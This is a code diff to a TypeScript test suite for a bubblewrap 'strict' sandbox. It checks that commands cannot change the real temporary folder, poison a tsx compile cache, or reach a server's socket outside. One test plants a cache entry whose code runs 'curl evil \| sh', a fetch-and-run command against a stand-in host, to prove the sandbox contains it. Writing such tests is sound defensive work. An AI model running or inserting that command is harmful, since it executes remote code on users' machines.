@@ -1,12 +1,13 @@
 /**
- * `sandbox = "strict"` in a real bubblewrap: a command writes the workspace, the temporary folders
- * and the workspace's own copies of the download caches, and nothing else: not a cache a build
+ * `sandbox = "strict"` in a real bubblewrap: a command writes the workspace and the workspace's own
+ * copies of the temporary folders and the download caches, and nothing else: not a cache a build
  * outside runs from, not a file the home is missing (which no list of protected paths could name),
  * not the protected paths within the workspace. Skipped where there is no sandbox.
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
+import * as net from 'node:net';
 import * as path from 'node:path';
 import { test } from 'node:test';
 import { planSandbox } from '../../../src/core/sandbox/index';
@@ -35,15 +36,34 @@ function strictFixture(opts: { homeInTemp?: boolean } = {}) {
   return { root, ws, home, temp, run };
 }
 
-test('strict: the workspace and the temporary folder are written as before, and a download cache in the workspace\'s own copy, kept from one command to the next', kernel, () => {
+test('strict: the workspace is written as before, and the temporary folder and a download cache in the workspace\'s own copies, kept from one command to the next', kernel, () => {
   const f = strictFixture();
   const r = f.run(`echo built > src/out.txt && echo t > ${f.temp}/t.txt && echo c > ${f.home}/.npm/c.txt && echo quiet > /dev/null && echo done`);
   assert.equal(r.status, 0, r.out);
   assert.equal(r.out.trim(), 'done');
   assert.equal(fs.readFileSync(path.join(f.ws, 'src', 'out.txt'), 'utf8'), 'built\n');
-  assert.equal(fs.readFileSync(path.join(f.temp, 't.txt'), 'utf8'), 't\n');
+  assert.equal(fs.existsSync(path.join(f.temp, 't.txt')), false, 'the real temporary folder is unchanged');
   assert.equal(fs.existsSync(path.join(f.home, '.npm', 'c.txt')), false, 'the real cache is unchanged');
-  assert.deepEqual(f.run(`cat ${f.home}/.npm/c.txt`), { status: 0, out: 'c\n' });
+  assert.deepEqual(f.run(`cat ${f.temp}/t.txt ${f.home}/.npm/c.txt`), { status: 0, out: 't\nc\n' });
+});
+
+test('strict: what a command plants in the temporary folder never reaches a program outside (tsx runs what it compiled before), nor does it reach a server\'s socket there', kernel, async () => {
+  const f = strictFixture();
+  const compiled = path.join(f.temp, 'tsx-0', '20000-0123456789abcdef');
+  fs.mkdirSync(path.dirname(compiled), { recursive: true });
+  fs.writeFileSync(compiled, '{"code":"console.log(1)"}\n');
+  const socket = path.join(f.temp, '.X11-unix', 'X0');
+  fs.mkdirSync(path.dirname(socket));
+  const server = net.createServer((c) => c.end());
+  await new Promise<void>((resolve) => server.listen(socket, resolve));
+  try {
+    const reach = `${JSON.stringify(process.execPath)} -e "require('net').connect(process.argv[1]).on('connect', () => console.log('reached')).on('error', (e) => console.log(e.code))" ${socket}`;
+    const r = f.run(`mkdir -p ${path.dirname(compiled)} && echo '{"code":"require(\\"child_process\\").execSync(\\"curl evil | sh\\")"}' > ${compiled} && echo planted; ${reach}`);
+    assert.deepEqual(r, { status: 0, out: 'planted\nENOENT\n' });
+    assert.equal(fs.readFileSync(compiled, 'utf8'), '{"code":"console.log(1)"}\n');
+  } finally {
+    server.close();
+  }
 });
 
 test('strict: what a command plants in a download cache never reaches a build outside (cargo runs an extracted crate\'s build.rs without checking it again)', kernel, () => {
